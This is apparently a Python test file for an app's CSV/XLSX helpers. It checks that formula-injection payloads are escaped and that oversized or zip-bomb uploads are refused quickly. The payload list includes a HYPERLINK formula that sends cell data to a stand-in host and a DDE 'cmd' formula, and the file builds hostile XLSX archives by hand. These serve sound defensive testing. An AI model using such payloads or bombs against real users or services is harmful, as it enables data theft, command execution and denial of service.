"""CSV and XLSX helpers shared by reports, imports and exports."""
import csv
import io
import time
import zipfile
from datetime import date

import pytest
from openpyxl import load_workbook

from fieldapp.spreadsheets import Sheet, SpreadsheetError, csv_bytes, read_rows, xlsx_bytes


def test_csv_has_a_bom_and_round_trips_diacritics(app):
    data = csv_bytes(["Thôn", "Số hộ"], [["Thôn Đông Hòa", 12], ["Ấp Mỹ", None]])
    assert data.startswith(b"\xef\xbb\xbf")
    rows = read_rows("x.csv", data)
    assert rows == [(1, ["Thôn", "Số hộ"]), (2, ["Thôn Đông Hòa", "12"]), (3, ["Ấp Mỹ", ""])]


def test_xlsx_keeps_numbers_as_numbers_and_reads_back(app):
    data = xlsx_bytes([Sheet("Tổng hợp", ["Xã", "Hộ", "Ngày"], [["Phường Hòa", 1328, date(2026, 10, 10)]]),
                       Sheet("Tổng hợp", ["a"], [[1.5]])])
    book = load_workbook(io.BytesIO(data))
    assert book.sheetnames == ["Tổng hợp", "Tổng hợp (2)"]
    ws = book["Tổng hợp"]
    assert ws["B2"].value == 1328 and ws["B2"].data_type == "n"
    assert read_rows("r.xlsx", data)[1] == (2, ["Phường Hòa", "1328", "10/10/2026"])


def test_unreadable_uploads_get_a_message(app):
    with pytest.raises(SpreadsheetError, match="UTF-8"):
        read_rows("a.csv", "Thôn".encode("utf-16"))
    with pytest.raises(SpreadsheetError, match="Excel"):
        read_rows("a.xlsx", b"not a zip")
    with pytest.raises(SpreadsheetError, match=r"\.csv"):
        read_rows("a.pdf", b"x")
    with pytest.raises(SpreadsheetError):
        read_rows("a.csv", b"\n\n")


# --- Formula injection (OWASP "CSV injection"): every text cell beginning with = + - @, tab or CR ---

PAYLOADS = ["=1+1", '=HYPERLINK("http://evil.example/?"&A1,"Bấm vào đây")', "+1+1", "-1+1", "@SUM(A1:A2)",
            "\t=1+1", "\r=1+1", "=cmd|' /C calc'!A0"]


def test_csv_text_cells_that_start_a_formula_are_escaped(app):
    data = csv_bytes(["=Tiêu đề"], [[p] for p in PAYLOADS] + [["H-001"], [-5], ["Bình thường"]])
    rows = list(csv.reader(io.StringIO(data.decode("utf-8-sig"))))
    assert rows[0] == ["'=Tiêu đề"]
    assert [r[0] for r in rows[1:len(PAYLOADS) + 1]] == ["'" + p for p in PAYLOADS]
    assert [r[0] for r in rows[len(PAYLOADS) + 1:]] == ["H-001", "-5", "Bình thường"]  # numbers stay numbers
    # and an import of the same file reads the values as they were typed
    assert [cells[0] for _n, cells in read_rows("x.csv", data)[1:len(PAYLOADS) + 1]] == [p.strip() for p in PAYLOADS]


def test_xlsx_text_cells_that_start_a_formula_are_text_not_formulas(app):
    data = xlsx_bytes([Sheet("Hộ", ["=Mã hộ", "Số"], [[p, -5] for p in PAYLOADS])])
    ws = load_workbook(io.BytesIO(data))["Hộ"]
    cells = [ws.cell(row=r, column=1) for r in range(1, len(PAYLOADS) + 2)]
    for cell in cells:
        assert cell.data_type == "s", (cell.coordinate, cell.value, cell.data_type)
        assert cell.quotePrefix, cell.coordinate  # Excel shows it as typed and keeps it text when edited
    # A CR inside the text reads back as LF with Python's XML parser and as CR with lxml (python-docx brings it)
    assert [c.value.replace("\r", "\n") for c in cells] == ["=Mã hộ", *(p.replace("\r", "\n") for p in PAYLOADS)]
    assert ws.cell(row=2, column=2).value == -5 and ws.cell(row=2, column=2).data_type == "n"
    assert [cells[0] for _n, cells in read_rows("x.xlsx", data)[1:]] == [p.strip() for p in PAYLOADS]


# --- Reading limits: a small upload must not tie up a worker (issue 17.4) ---

def raw_xlsx(sheet_data: str, dimension: str | None = None, extra: dict[str, bytes] | None = None) -> bytes:
    """A minimal .xlsx written by hand (openpyxl would take minutes to write the hostile ones)."""
    out = io.BytesIO()
    ns = "http://schemas.openxmlformats.org"
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as z:
        z.writestr("[Content_Types].xml", f'<?xml version="1.0"?><Types xmlns="{ns}/package/2006/content-types">'
                   '<Default Extension="rels" ContentType="application/vnd.openxmlformats-package.relationships+xml"/>'
                   '<Default Extension="xml" ContentType="application/xml"/>'
                   '<Override PartName="/xl/workbook.xml" ContentType="application/vnd.openxmlformats-officedocument.'
                   'spreadsheetml.sheet.main+xml"/><Override PartName="/xl/worksheets/sheet1.xml" ContentType='
                   '"application/vnd.openxmlformats-officedocument.spreadsheetml.worksheet+xml"/></Types>')
        z.writestr("_rels/.rels", f'<?xml version="1.0"?><Relationships xmlns="{ns}/package/2006/relationships">'
                   f'<Relationship Id="rId1" Type="{ns}/officeDocument/2006/relationships/officeDocument" '
                   'Target="xl/workbook.xml"/></Relationships>')
        z.writestr("xl/workbook.xml", f'<?xml version="1.0"?><workbook xmlns="{ns}/spreadsheetml/2006/main" '
                   f'xmlns:r="{ns}/officeDocument/2006/relationships"><sheets><sheet name="S" sheetId="1" '
                   'r:id="rId1"/></sheets></workbook>')
        z.writestr("xl/_rels/workbook.xml.rels", f'<?xml version="1.0"?><Relationships xmlns="{ns}/package/2006/'
                   f'relationships"><Relationship Id="rId1" Type="{ns}/officeDocument/2006/relationships/worksheet" '
                   'Target="worksheets/sheet1.xml"/></Relationships>')
        dim = f'<dimension ref="{dimension}"/>' if dimension else ""
        z.writestr("xl/worksheets/sheet1.xml", f'<?xml version="1.0"?><worksheet xmlns="{ns}/spreadsheetml/2006/'
                   f'main">{dim}<sheetData>{sheet_data}</sheetData></worksheet>')
        for name, payload in (extra or {}).items():
            z.writestr(name, payload)
    return out.getvalue()


def inline(text: str, ref: str = "") -> str:
    at = f' r="{ref}"' if ref else ""
    return f'<c{at} t="inlineStr"><is><t>{text}</t></is></c>'


def refused_quickly(data: bytes, filename: str, match: str) -> None:
    started = time.perf_counter()
    with pytest.raises(SpreadsheetError, match=match):
        read_rows(filename, data)
    # Before the limits the first file took 40 s; the bound is loose (a shared, loaded machine), the point is "stops early".
    assert time.perf_counter() - started < 10


def test_a_row_of_two_million_cells_is_refused_at_once(app):
    data = raw_xlsx('<row r="1">' + inline("a") * 2_000_000 + "</row>")
    assert len(data) < 300_000  # the 0.23 MB file of the report
    refused_quickly(data, "a.xlsx", "quá nhiều cột|quá lớn")
    refused_quickly(raw_xlsx('<row r="1">' + "<c><v>1</v></c>" * 2_000_000 + "</row>"), "a.xlsx", "quá nhiều ô")
    refused_quickly(raw_xlsx('<row r="1">' + "<c><v>1</v></c>" * 61 + "</row>"), "a.xlsx", "Dòng 1 .* quá nhiều cột")


def test_too_many_cells_or_rows_far_down_are_refused_early(app):
    many = "".join(f'<row r="{r}">' + "<c/>" * 50 + "</row>" for r in range(1, 5_000))  # 250,000 empty cells
    refused_quickly(raw_xlsx(many), "a.xlsx", "quá nhiều ô")
    far = raw_xlsx('<row r="1">' + inline("Mã hộ") + '</row><row r="1048576">' + inline("x", "A1048576") + "</row>")
    refused_quickly(far, "a.xlsx", "dòng 1.048.576")
    rows = "".join(f'<row r="{r}">{inline(str(r))}</row>' for r in range(1, 20_010))
    refused_quickly(raw_xlsx(rows), "a.xlsx", "quá nhiều dòng")


def test_a_zip_bomb_is_refused_before_it_is_unpacked(app):
    bomb = raw_xlsx(f'<row r="1">{inline("a")}</row>', extra={"xl/sharedStrings.xml": b" " * (200 * 2**20)})
    assert len(bomb) < 1_000_000
    refused_quickly(bomb, "a.xlsx", "giải nén ra quá lớn")
    strings = raw_xlsx(f'<row r="1">{inline("a")}</row>',
                       extra={"xl/sharedStrings.xml": b"<sst>" + b"<si><t>a</t></si>" * 1_500_000 + b"</sst>"})
    refused_quickly(strings, "a.xlsx", "quá nhiều ô")


def test_a_lying_dimension_does_not_pad_every_row(app):
    data = raw_xlsx(f'<row r="1">{inline("Mã hộ")}{inline("Số")}</row><row r="3">{inline("H1")}'
                    '<c><v>4</v></c></row>', dimension="A1:XFD1048576")
    started = time.perf_counter()
    assert read_rows("a.xlsx", data) == [(1, ["Mã hộ", "Số"]), (3, ["H1", "4"])]
    assert time.perf_counter() - started < 10


def test_csv_with_a_huge_line_or_cell_is_refused(app):
    refused_quickly(("a" + ",x" * 2_000_000).encode(), "a.csv", "quá nhiều cột")
    refused_quickly(("Mã hộ\n" + "x" * 200_000 + "\n").encode(), "a.csv", "dòng 2")
    refused_quickly("".join(f"H{n},1\n" for n in range(20_010)).encode(), "a.csv", "quá nhiều dòng")
    # trailing separators (Excel writes them) are not columns
    rows = read_rows("a.csv", ("Mã hộ,Số" + "," * 500 + "\nH1,4\n").encode())
    assert rows[0][1][:3] == ["Mã hộ", "Số", ""] and rows[1] == (2, ["H1", "4"])
